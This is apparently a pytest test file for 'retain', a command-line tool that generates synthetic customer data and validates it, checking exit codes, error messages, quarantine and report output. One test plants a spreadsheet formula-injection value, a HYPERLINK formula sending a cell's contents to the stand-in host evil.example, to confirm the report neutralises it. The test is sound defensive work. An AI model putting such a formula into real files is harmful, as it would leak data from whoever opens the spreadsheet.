"""The `retain` command line, run as the real installed entry point in a subprocess."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from retain.contract import contract_markdown

SCRIPT = Path(sys.executable).parent / "retain"
MAIN = "from retain.cli import main; main()"  # the same as the script, if it is not installed
README = Path(__file__).resolve().parents[2] / "README.md"


def retain(*args: str | Path, cwd: Path, env: dict[str, str] | None = None) -> subprocess.CompletedProcess:
    """Run `retain ARGS` in `cwd` with a clean RETAIN_* environment and a wide terminal."""
    command = [str(SCRIPT)] if SCRIPT.is_file() else [sys.executable, "-c", MAIN]
    environment = {key: value for key, value in os.environ.items()
                   if not key.startswith("RETAIN_") and key != "MLFLOW_TRACKING_URI"}
    environment.update({"COLUMNS": "250", "NO_COLOR": "1", "MLFLOW_DISABLE_TELEMETRY": "true"})
    environment.update(env or {})
    return subprocess.run([*command, *map(str, args)], cwd=cwd, env=environment, capture_output=True,
                          text=True, timeout=120)


def assert_clean_failure(result: subprocess.CompletedProcess[str], code: int) -> None:
    assert result.returncode == code, result.stdout + result.stderr
    assert "Traceback" not in result.stderr and "Traceback" not in result.stdout


@pytest.fixture(scope="module")
def generated(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """`retain generate --customers 500 --seed 1 --out DIR`, run once for this module."""
    out = tmp_path_factory.mktemp("cli") / "sample"
    result = retain("generate", "--customers", "500", "--seed", "1", "--out", out, cwd=out.parent)
    assert result.returncode == 0, result.stderr
    assert "Generated 500 customers" in result.stdout
    return out


@pytest.fixture
def bad_csv_dir(tmp_path: Path, generated: Path) -> Path:
    """The generated data as CSV, with a negative amount in data row 3 of transactions.csv."""
    data_dir = tmp_path / "bad"
    data_dir.mkdir()
    for name in ("customers", "transactions", "interactions"):
        pd.read_parquet(generated / f"{name}.parquet").to_csv(data_dir / f"{name}.csv", index=False)
    transactions = pd.read_csv(data_dir / "transactions.csv", dtype=str, keep_default_na=False)
    transactions.loc[2, "amount"] = "-7.5"
    transactions.to_csv(data_dir / "transactions.csv", index=False)
    return data_dir


def test_help_lists_the_commands(tmp_path: Path) -> None:
    result = retain("--help", cwd=tmp_path)

    assert result.returncode == 0
    for command in ("generate", "validate", "contract"):
        assert command in result.stdout


def test_generate_writes_the_four_files(generated: Path) -> None:
    names = sorted(path.name for path in generated.iterdir())

    assert names == ["customers.parquet", "interactions.parquet", "transactions.parquet", "truth.parquet"]
    assert len(pd.read_parquet(generated / "customers.parquet")) == 500


def test_validate_good_data_prints_the_summary(generated: Path) -> None:
    result = retain("validate", generated, cwd=generated.parent)

    assert result.returncode == 0, result.stderr
    assert "valid" in result.stdout
    assert "customers" in result.stdout and "500" in result.stdout
    assert "transactions" in result.stdout and "interactions" in result.stdout
    assert "churned share truth" in result.stdout


def test_validate_bad_csv_fails_and_names_the_cell(bad_csv_dir: Path, tmp_path: Path) -> None:
    result = retain("validate", bad_csv_dir, "--report", tmp_path / "report.csv", cwd=tmp_path)

    assert_clean_failure(result, 1)
    line = next(line for line in result.stderr.splitlines() if "transactions.csv" in line)
    assert "│ 3 " in line.replace("┃", "│")  # row 3
    assert "amount" in line and "-7.5" in line and "must be >= 0" in line
    report = pd.read_csv(tmp_path / "report.csv")
    assert report[["row", "column", "rule"]].values.tolist() == [[3, "amount", "must be >= 0"]]


def test_validate_report_quotes_cells_a_spreadsheet_would_run(bad_csv_dir: Path, tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    transactions = pd.read_csv(bad_csv_dir / "transactions.csv", dtype=str, keep_default_na=False)
    transactions.loc[4, "amount"] = formula
    transactions.to_csv(bad_csv_dir / "transactions.csv", index=False)

    result = retain("validate", bad_csv_dir, "--report", tmp_path / "report.csv", cwd=tmp_path)

    assert_clean_failure(result, 1)
    report = pd.read_csv(tmp_path / "report.csv", dtype=str)
    assert report[["row", "column", "value"]].values.tolist() == [["3", "amount", "'-7.5"],
                                                                    ["5", "amount", "'" + formula]]


def test_validate_with_quarantine_goes_on(bad_csv_dir: Path, tmp_path: Path) -> None:
    quarantine = tmp_path / "q"

    result = retain("validate", bad_csv_dir, "--quarantine", quarantine, cwd=tmp_path)

    assert result.returncode == 0, result.stderr
    assert "Set aside 1 bad row(s)" in result.stdout
    bad = pd.read_csv(quarantine / "transactions.csv")
    assert list(bad["row"]) == [3] and list(bad["problems"]) == ["amount: must be >= 0"]


def test_missing_data_dir_is_a_clean_error(tmp_path: Path) -> None:
    result = retain("validate", tmp_path / "nowhere", cwd=tmp_path)

    assert_clean_failure(result, 2)
    assert "data folder not found" in result.stderr



# ------------------------------------------------------ in process: the same main(), without the start-up


@pytest.fixture
def run_main(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path):
    """`run_main(*args, **env)` calls retain.cli.main in this process: (exit code, stdout, stderr).

    Runs in tmp_path (so no stray .env is read) with RETAIN_* variables cleared; whitespace in the output
    is collapsed, as rich wraps long lines at the terminal width.
    """
    from retain import cli

    for key in list(os.environ):
        if key.startswith("RETAIN_") or key == "MLFLOW_TRACKING_URI":
            monkeypatch.delenv(key)
    monkeypatch.chdir(tmp_path)
    for console in (cli.console, cli.errors):  # a wide terminal, so that rich does not fold table cells
        monkeypatch.setattr(console, "_width", 250)

    def run(*args: str | Path, **env: str) -> tuple[int, str, str]:
        for key, value in env.items():
            monkeypatch.setenv(key, value)
        monkeypatch.setattr(sys, "argv", ["retain", *map(str, args)])
        capsys.readouterr()
        with pytest.raises(SystemExit) as exit_info:  # any other exception would be a traceback
            cli.main()
        out, err = capsys.readouterr()
        code = exit_info.value.code
        return (code if isinstance(code, int) else 0 if code is None else 1), " ".join(out.split()), " ".join(
            err.split())

    return run


def test_generate_csv_format_with_seed_from_settings(run_main, tmp_path: Path, generated: Path) -> None:
    code, out, _ = run_main("generate", "--customers", "500", "--out", "csvdata", "--format", "csv",
                            RETAIN_SEED="1")

    assert code == 0
    assert "Generated 500 customers" in out
    data_dir = tmp_path / "csvdata"
    assert sorted(p.name for p in data_dir.iterdir()) == [
        "customers.csv", "interactions.csv", "transactions.csv", "truth.parquet"]
    from_csv = pd.read_csv(data_dir / "customers.csv", dtype=str)
    from_seed_flag = pd.read_parquet(generated / "customers.parquet")  # `--seed 1`
    assert list(from_csv["customer_id"]) == list(from_seed_flag["customer_id"])
    assert list(from_csv["segment"]) == list(from_seed_flag["segment"])
    assert list(from_csv["country"]) == list(from_seed_flag["country"])


def test_generate_rejects_an_unknown_format(run_main) -> None:
    code, _, err = run_main("generate", "--customers", "5", "--out", "x", "--format", "xml")

    assert code == 2
    assert "--format must be parquet or csv" in err


def test_validate_uses_the_data_dir_setting(run_main, generated: Path) -> None:
    code, out, _ = run_main("validate", RETAIN_DATA_DIR=str(generated))

    assert code == 0
    assert "500" in out and "valid" in out


def test_quarantine_cannot_fix_a_missing_column(run_main, bad_csv_dir: Path, tmp_path: Path) -> None:
    customers = pd.read_csv(bad_csv_dir / "customers.csv", dtype=str)
    customers.drop(columns=["signup_date"]).to_csv(bad_csv_dir / "customers.csv", index=False)

    code, _, err = run_main("validate", bad_csv_dir, "--quarantine", tmp_path / "q")

    assert code == 1
    assert "2 problem(s) in the input data" in err  # amount and column; no "unknown customer" per event
    assert "signup_date" in err and "missing required column" in err
    assert "cannot be quarantined" in err
    assert not (tmp_path / "q").exists()


def test_unreadable_file_is_a_clean_error(run_main, generated: Path, tmp_path: Path) -> None:
    data_dir = tmp_path / "broken"
    shutil.copytree(generated, data_dir)
    (data_dir / "interactions.parquet").write_bytes(b"PAR1 but not really")

    code, _, err = run_main("validate", data_dir)

    assert code == 2
    assert "interactions.parquet" in err.replace(" ", "") and "cannot be read" in err


def test_bad_setting_is_a_clean_error(run_main) -> None:
    code, _, err = run_main("generate", "--customers", "5", "--out", "x", RETAIN_SEED="abc")

    assert code == 2
    assert "invalid setting" in err and "seed" in err


def test_contract_command_prints_the_readme_tables(run_main) -> None:
    code, out, _ = run_main("contract")

    assert code == 0
    assert out == " ".join(contract_markdown().split())
    assert contract_markdown() in README.read_text(), "README.md's contract is stale: paste `retain contract`"
